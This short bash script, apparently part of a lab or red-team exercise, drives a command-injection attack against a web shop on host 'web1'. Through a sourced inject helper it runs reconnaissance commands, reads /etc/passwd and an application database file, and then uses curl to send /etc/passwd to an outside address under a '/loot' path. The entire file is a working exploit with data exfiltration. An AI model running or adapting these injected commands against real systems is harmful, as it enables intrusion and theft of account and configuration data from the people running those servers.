#!/bin/bash
# Command injection in the shop: looks around, then sends the account list out. Only programs that web1 runs anyway.
source "$(dirname "$0")/inject.sh"
for command in id 'ls -la /srv/app' 'cat /etc/passwd' 'cat /srv/app/postgres.mjs' \
  'curl -s --data-binary @/etc/passwd http://203.0.113.66/loot'; do
  inject "$command" >/dev/null
  sleep 1.5
done
